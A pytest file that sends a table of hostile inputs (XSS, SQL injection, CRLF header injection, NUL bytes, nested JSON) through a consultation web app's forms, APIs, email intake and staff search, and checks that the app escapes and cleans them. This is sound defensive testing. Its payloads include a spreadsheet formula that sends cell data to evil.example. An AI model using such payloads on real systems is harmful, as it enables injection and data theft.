"""One table of hostile inputs, sent through every way in.

Each payload goes to the resident's form, /track, the public log search, the public
API, the partner API, POST /inbound/email and the staff inbox search. Every answer
must be a 2xx/3xx or a 4xx (never a 500), no answer may carry an injected header,
and the database must hold exactly what was accepted: the number of new feedback
rows equals the number of answers that said "stored". Whatever was stored is clean
text (no NUL or control characters, one-line fields on one line), and a stored
script is shown escaped on the staff item page, the inbox and the public pages.

tests/public/test_hostile.py covers the public query-string parameters one by one;
this file is the cross-channel table.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from email.message import EmailMessage

import pytest
from sqlalchemy import func, select

from engage.extensions import db, limiter
from engage.feedback.models import FeedbackItem
from engage.feedback.validation import MAX_TEXT, clean_text
from engage.outbox.models import OutboxMessage
from engage.staff import item_actions
from engage.staff.models import Role
from tests.partners import create_partner
from tests.publish.factories import make_response  # noqa: F401

XSS = "<script>alert('engage')</script> please keep our <b>surgery</b> open"
PAYLOADS = {
    "xss script": XSS,
    "xss attribute": '"><img src=x onerror=alert(1)> keep the walk-in centre open',
    "xss svg": "<svg/onload=alert(1)>javascript:alert(1)//keep the clinic",
    "sql": "'; DROP TABLE feedback_item; -- ' OR '1'='1 keep the surgery",
    "fts syntax": 'NEAR(keep surgery) OR "unclosed * AND -money ^ text: {x} col:y',
    "like wildcards": "100% of _ residents \\ agree about the % surgery",
    "nul bytes": "keep the\x00 surgery\x00 open\x00\x00 please",
    "control characters": "keep\x1b[31m the\x07 surgery\x08 open\x7f please",
    "rtl override": "keep the surgery \u202enepo\u202c please \u2066isolate\u2069",
    "crlf injection": "keep the surgery\r\nBcc: victim@example.org\r\nX-Injected: 1\r\n\r\nopen",
    "astral and combining": "keep 🏥 open 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 Z̸̢̛a̴l̷g̶o̵ please",
    "long word": "surgery" + "x" * 5_000,
    "spreadsheet formula": '=HYPERLINK("http://evil.example/?"&A1,"keep the surgery open")',
}
FORMULA = PAYLOADS["spreadsheet formula"]
BIG = 1024 * 1024  # 1 MB: over the 10,000-character text limit, under the body limit
HUGE = 20 * 1024 * 1024  # 20 MB: over MAX_CONTENT_LENGTH (12 MB) and INBOUND_MAX_BYTES
PAGES = ["0", "-1", "1e9", "99999999999999999999999999", "\u0661\u0662", "NaN", "2.5", "%00"]


def count_items() -> int:
    return db.session.scalar(select(func.count()).select_from(FeedbackItem))


def check(response, what) -> None:
    """Never a server error, never an injected header."""
    assert response.status_code < 500, (what, response.status_code)
    for name, value in response.headers.items():
        assert "\r" not in value and "\n" not in value, (what, name)
        assert name.lower() not in {"bcc", "x-injected"}, (what, name)


def assert_clean(item: FeedbackItem) -> None:
    """What is stored is text a person could have typed: no NUL, no control characters."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", item.text), item.text[:80]
    assert len(item.text) <= MAX_TEXT + 100
    for line in (item.author_name, item.author_email, item.area, item.subject):
        assert line is None or not re.search(r"[\x00-\x1f\x7f]", line), line


@pytest.fixture
def engagement(make_engagement):
    return make_engagement(slug="case-for-change", areas=["Brent", "Harrow"])


@pytest.fixture
def partner_token(app):
    return create_partner("Healthwatch Harrow")[1]


@pytest.fixture
def inbound_token(app):
    app.config["INBOUND_EMAIL_TOKEN"] = "inbound-secret-token"
    yield "inbound-secret-token"
    app.config["INBOUND_EMAIL_TOKEN"] = None


class Ledger:
    """Counts the answers that said "stored", to compare with the rows in the database."""

    def __init__(self):
        self.before = count_items()
        self.accepted = 0

    def settle(self) -> None:
        db.session.expire_all()
        assert count_items() - self.before == self.accepted
        for item in db.session.scalars(select(FeedbackItem)):
            assert_clean(item)


# The resident's form --------------------------------------------------------------


def test_feedback_form(client, engagement):
    ledger = Ledger()
    url = f"/engagements/{engagement.slug}/feedback"

    def post(what, **kwargs):
        limiter.reset()
        response = client.post(url, **kwargs)
        check(response, what)
        assert response.status_code in (303, 400, 413), (what, response.status_code)
        ledger.accepted += response.status_code == 303
        return response

    for name, payload in PAYLOADS.items():
        fields = {"text": payload, "author_name": "", "author_email": "", "area": ""}
        stored = post(f"text: {name}", data=fields)
        assert stored.status_code == 303, name  # every payload is acceptable as text
        post(f"name: {name}", data={**fields, "text": "A fine comment.", "author_name": payload})
        post(f"email: {name}", data={**fields, "text": "A fine comment.", "author_email": payload})
        post(f"area: {name}", data={**fields, "text": "A fine comment.", "area": payload})
    raw = b"text=caf\xe9 \xff\xfe\x00 keep the surgery open&author_name=\xc3\x28&area="
    assert post("invalid UTF-8", data=raw, content_type="application/x-www-form-urlencoded")
    assert post("1 MB text", data={"text": "x" * BIG}).status_code == 400
    assert post("20 MB body", data={"text": "x" * HUGE}).status_code == 413
    assert post("honeypot", data={"text": "A fine comment.", "website": "x"}).status_code == 400
    ledger.settle()
    for name, payload in PAYLOADS.items():
        cleaned = clean_text(payload)
        assert db.session.scalar(select(FeedbackItem).where(FeedbackItem.text == cleaned)), name


def test_track(client, make_item):
    item = make_item(author_email="jo@example.org")
    ledger = Ledger()
    for name, payload in {**PAYLOADS, "1 MB": "x" * BIG}.items():
        limiter.reset()
        for data in (
            # A NUL in a looked-up value is in test_values_the_database_cannot_hold.
            {"reference": payload.replace("\x00", ""), "author_email": "jo@example.org"},
            {"reference": item.reference, "author_email": payload},
        ):
            response = client.post("/track", data=data)
            check(response, name)
            assert response.status_code == 400, name
            assert b"<script>alert(" not in response.data
    limiter.reset()
    assert client.post("/track", data={"reference": "x" * HUGE}).status_code == 413
    ledger.settle()


# Public search and API -----------------------------------------------------------------


def test_public_log_and_api_queries(client, make_response):  # noqa: F811
    make_response(you_said=XSS)
    make_response(you_said=FORMULA)
    ledger = Ledger()
    queries = [{"q": p} for p in PAYLOADS.values()] + [{"q": "x" * BIG}]
    queries += [{"page": p} for p in PAGES] + [{"per_page": p} for p in PAGES]
    queries += [{"q": "surgery", "page": "1" + "0" * 30}]
    for path in ("/you-said-we-did", "/api/v1/responses", "/api/v1/statistics"):
        for params in queries:
            response = client.get(path, query_string=params)
            check(response, (path, str(params)[:60]))
            if path.startswith("/api/"):
                assert response.is_json, (path, params)  # data, never a page
            else:
                assert b"<script>alert(" not in response.data, (path, params)
    response = client.get("/you-said-we-did", query_string={"q": XSS})
    assert "&lt;script&gt;alert(" in response.get_data(as_text=True)
    export = client.get("/open-data/responses.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert XSS in cells and "'" + FORMULA in cells and FORMULA not in cells
    ledger.settle()


# Partner API ---------------------------------------------------------------------------


def test_partner_api(client, engagement, partner_token):
    ledger = Ledger()
    auth = {"Authorization": f"Bearer {partner_token}"}

    def post(what, **kwargs):
        limiter.reset()
        response = client.post("/api/v1/feedback", headers=auth, **kwargs)
        check(response, what)
        assert response.status_code in (201, 400, 413, 415, 422), (what, response.status_code)
        if response.status_code == 201:
            body = response.get_json()
            ledger.accepted += len(body["items"]) if "items" in body else 1
        return response

    for name, payload in PAYLOADS.items():
        # A NUL from a program is refused, naming the field; a person's form drops it.
        expected = 422 if "\x00" in payload else 201
        response = post(name, json={"text": payload, "engagement": engagement.slug})
        assert response.status_code == expected, (name, response.status_code)
        if expected == 422:
            assert response.mimetype == "application/problem+json"
            assert "NUL" in response.get_data(as_text=True)
        post(f"name: {name}", json={"text": "A fine comment.", "name": payload})
        post(f"email: {name}", json={"text": "A fine comment.", "email": payload})
        slug = payload.replace("\x00", "")  # NUL: see test_values_the_database_cannot_hold
        post(f"engagement: {name}", json={"text": "A fine comment.", "engagement": slug})
    confused = [
        {"text": 12345678901},
        {"text": ["a list", "of strings"]},
        {"text": {"nested": "object"}},
        {"text": None},
        {"text": True},
        {"text": "A fine comment.", "consent_to_quote": "true"},
        {"text": "A fine comment.", "contact_me": 1},
        {"text": "A fine comment.", "engagement": 7},
        {"text": "A fine comment.", "name": ["Jo"]},
        {"text": "A fine comment.", "__proto__": {"admin": True}},
        {"text": "A fine comment.", "text ": "shadow"},
        {},
        [],
        ["not an object"],
        [{"text": "A fine comment."}, 42],
        [{"text": "A fine comment."}] * 501,
        "just a string",
        12,
        None,
        True,
        {"text": "x" * BIG},
    ]
    for payload in confused:
        response = post(f"type confusion: {str(payload)[:40]}", json=payload)
        assert response.status_code in (400, 422), payload
        assert response.is_json
    for what, body in [
        ("invalid UTF-8", b'{"text": "caf\xe9 \xff keep the surgery"}'),
        ("not JSON", b"text=hello"),
        ("truncated", b'{"text": "keep the'),
        ("NaN", b'{"text": NaN}'),
        ("duplicate keys", b'{"text": "first one here", "text": 5}'),
    ]:
        response = post(what, data=body, content_type="application/json")
        assert response.status_code in (400, 422), what
    assert post("20 MB body", json={"text": "x" * HUGE}).status_code == 413
    batch = [{"text": p} for p in PAYLOADS.values()]
    before = count_items()
    assert post("a batch holding a NUL", json=batch).status_code == 422
    assert count_items() == before  # all or none
    batch = [{"text": p} for p in PAYLOADS.values() if "\x00" not in p]
    assert post("a batch of payloads", json=batch).status_code == 201
    ledger.settle()


def test_partner_api_deeply_nested_json(client, partner_token):
    before = count_items()
    for depth in (5_000, 100_000):
        response = client.post(
            "/api/v1/feedback",
            data=b"[" * depth + b"]" * depth,
            content_type="application/json",
            headers={"Authorization": f"Bearer {partner_token}"},
        )
        check(response, f"nesting {depth}")
        assert response.status_code == 400 and response.is_json
    assert count_items() == before


# Values the database cannot hold -------------------------------------------------------

# PostgreSQL refuses NUL bytes in text and integers past 2**31 - 1, and SQLite cannot
# bind a 30-digit number: each must come back as a 4xx, never a 500.
BOTH = {"sqlite", "postgresql"}
PG = {"postgresql"}
ID_PAST_INT = "99999999999"
ID_30_DIGITS = "9" * 30
TEXT = "The merger will take decisions away from Harrow."
CANNOT_HOLD = [
    # (what, who sends it, method, path, form or JSON body, backends that once gave a 500)
    ("engagement page, NUL slug", "public", "GET", "/engagements/%00", None, PG),
    (
        "feedback form, NUL slug",
        "public",
        "POST",
        "/engagements/a%00b/feedback",
        {"text": TEXT},
        PG,
    ),
    (
        "track, NUL reference",
        "public",
        "POST",
        "/track",
        {"reference": "YS-\x00", "author_email": "a@b.org"},
        PG,
    ),
    (
        "sign-in, NUL email",
        "public",
        "POST",
        "/staff/sign-in",
        {"email": "a\x00@b.org", "password": "x"},
        PG,
    ),
    (
        "partner API, NUL engagement",
        "partner",
        "POST",
        "/api/v1/feedback",
        {"text": TEXT, "engagement": "a\x00b"},
        PG,
    ),
    ("staff item, id past 2**31", "staff", "GET", f"/staff/items/{ID_PAST_INT}", None, PG),
    ("staff item, 30-digit id", "staff", "GET", f"/staff/items/{ID_30_DIGITS}", None, BOTH),
    (
        "staff item status, id past 2**31",
        "staff",
        "POST",
        f"/staff/items/{ID_PAST_INT}/status",
        {"status": "triaged"},
        PG,
    ),
    ("staff response, 30-digit id", "staff", "GET", f"/staff/responses/{ID_30_DIGITS}", None, BOTH),
    ("staff account, id past 2**31", "staff", "GET", f"/staff/accounts/{ID_PAST_INT}", None, PG),
    ("inbox, group past 2**31", "staff", "GET", f"/staff/inbox?group={ID_PAST_INT}", None, PG),
    (
        "inbox bulk, 30-digit id",
        "staff",
        "POST",
        "/staff/inbox/bulk",
        {"action": "archived", "item": ID_30_DIGITS},
        BOTH,
    ),
    ("dashboard, NUL engagement", "staff", "GET", "/staff/dashboard?engagement=%00", None, PG),
    ("audit log, NUL action", "staff", "GET", "/staff/audit?action=%00", None, PG),
    (
        "record feedback, NUL engagement",
        "staff",
        "POST",
        "/staff/record",
        {"engagement": "\x00", "text": TEXT, "channel": "phone"},
        PG,
    ),
]


@pytest.mark.parametrize(
    ("who", "method", "path", "body"),
    [
        pytest.param(
            who,
            method,
            path,
            body,
            id=what,
        )
        for what, who, method, path, body, fails_on in CANNOT_HOLD
    ],
)
def test_values_the_database_cannot_hold(
    app, client, signed_in, partner_token, make_item, who, method, path, body
):
    make_item()
    ledger = Ledger()
    sender = signed_in(Role.ADMIN) if who == "staff" else client
    limiter.reset()
    if who == "partner":
        auth = {"Authorization": f"Bearer {partner_token}"}
        response = sender.post(path, json=body, headers=auth)
    else:
        response = sender.open(path, method=method, data=body)
    check(response, path)
    assert response.status_code in (200, 302, 303, 400, 404, 422), (path, response.status_code)
    ledger.settle()


# Inbound email -------------------------------------------------------------------------


def email(body: str, *, sender="Jo Bloggs <jo@example.org>", subject="My views") -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "engage+case-for-change@engage.example.org"
    message["Subject"] = subject
    message["Message-ID"] = f"<{abs(hash((body, sender, subject)))}@mail.example.org>"
    message.set_content(body)
    return message.as_bytes()


def test_inbound_email(client, engagement, inbound_token):
    ledger = Ledger()
    auth = {"Authorization": f"Bearer {inbound_token}", "Content-Type": "message/rfc822"}

    def post(what, raw):
        response = client.post("/inbound/email", data=raw, headers=auth)
        check(response, what)
        assert response.status_code in (200, 201, 202, 400, 413, 422), (what, response.status_code)
        ledger.accepted += response.status_code == 201
        return response

    for name, payload in PAYLOADS.items():
        clean = payload.replace("\x00", "").replace("\r", " ").replace("\n", " ")
        assert post(f"body: {name}", email(payload)).status_code == 201, name
        post(f"subject: {name}", email("A fine comment on the plan.", subject=clean))
        post(f"sender: {name}", email("A fine comment on it.", sender=f'"{clean}" <jo@x.org>'))
    header_injection = (
        b"From: Jo <jo@example.org>\r\nTo: engage@engage.example.org\r\n"
        b"Subject: =?utf-8?b?"
        + base64.b64encode(b"Hi\r\nBcc: victim@example.org\r\n\r\nbody")
        + b"?=\r\nMessage-ID: <inject@example.org>\r\n\r\nKeep the surgery open, please.\r\n"
    )
    assert post("encoded CRLF in subject", header_injection).status_code == 201
    for what, raw in [
        ("invalid UTF-8", b"From: \xff\xfe <a@b.org>\r\nSubject: \xc3\x28\r\n\r\ncaf\xe9 \xff"),
        ("NUL bytes", b"\x00" * 2000),
        ("not an email", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("1 MB body", email("keep the surgery open " * (BIG // 22))),
    ]:
        post(what, raw)
    assert post("20 MB body", b"x" * HUGE).status_code == 413
    ledger.settle()
    crlf = db.session.scalar(
        select(FeedbackItem).where(FeedbackItem.message_id == "inject@example.org")
    )
    assert "\n" not in (crlf.subject or "") and "\r" not in (crlf.subject or "")
    assert all("victim" not in m.recipient for m in db.session.scalars(select(OutboxMessage)))


# Staff inbox search --------------------------------------------------------------------


def test_staff_inbox_search(app, signed_in, make_item):
    make_item(XSS)
    make_item(FORMULA)
    staff = signed_in(Role.TRIAGER)
    ledger = Ledger()
    params = [{"q": p} for p in PAYLOADS.values()] + [{"q": "x" * BIG}]
    params += [{"page": p} for p in PAGES] + [{"q": "surgery", "page": "9" * 40}]
    params += [
        {"engagement": XSS, "theme": "' OR 1=1 --", "area": "\x00", "channel": "\r\nX: 1"},
        {"from": "2019-13-45", "to": "\u0661\u0662", "group": "9" * 9, "sort": "; DROP"},
        {"status": "new\x00", "sort": "least_certain\r\n"},
    ]
    for query in params:
        for path in ("/staff/inbox", "/staff/inbox.csv"):
            response = staff.get(path, query_string=query)
            check(response, (path, str(query)[:60]))
            if response.mimetype == "text/html":
                assert b"<script>alert(" not in response.data, (path, query)
    found = staff.get("/staff/inbox", query_string={"q": "please surgery"})
    assert found.status_code == 200 and "&lt;script&gt;" in found.get_data(as_text=True)
    # An export is data: the script stays text, a formula is defused for spreadsheets.
    export = staff.get("/staff/inbox.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert XSS in cells and "'" + FORMULA in cells and FORMULA not in cells
    ledger.settle()


# A stored script is shown escaped everywhere ------------------------------------------------


def test_stored_script_is_escaped_on_staff_and_public_pages(
    app,
    client,
    signed_in,
    make_item,
    make_engagement,
    make_response,  # noqa: F811
):
    engagement = make_engagement(areas=["Harrow"])
    item = make_item(
        XSS,
        engagement_slug=engagement.slug,
        author_name="<script>alert('name')</script>",
        author_email="jo@example.org",
        consent_to_quote=True,
    )
    staff = signed_in(Role.TRIAGER)
    item_actions.save_redaction(item, "<script>alert('quote')</script> keep it open", by=staff.user)
    item_actions.add_note(item, "<img src=x onerror=alert('note')>", by=staff.user)
    db.session.commit()
    response = make_response(engagement=engagement, items=[item], you_said=XSS, we_did=XSS)

    pages = {
        "staff item": staff.get(f"/staff/items/{item.id}"),
        "staff inbox": staff.get("/staff/inbox"),
        "public response": client.get(f"/you-said-we-did/{response.id}"),
        "public log": client.get("/you-said-we-did"),
        "engagement": client.get(f"/engagements/{engagement.slug}"),
        "report": client.get(f"/engagements/{engagement.slug}/report"),
    }
    for name, page in pages.items():
        assert page.status_code == 200, name
        html = page.get_data(as_text=True)
        assert "<script>alert(" not in html and "<img src=x" not in html, name
        assert "&lt;script&gt;alert(" in html, name
    assert "alert(&#39;quote&#39;)" in pages["public response"].get_data(as_text=True)
    assert "&lt;img src=x onerror" in pages["staff item"].get_data(as_text=True)
    api = client.get("/api/v1/responses").get_json()
    assert api["items"][0]["you_said"] == XSS  # JSON carries the text as data, unchanged
    # The acknowledgement email's HTML part escapes the name too.
    message = db.session.scalar(select(OutboxMessage))
    assert "<script>" not in (message.body_html or "") and json.dumps(message.headers)
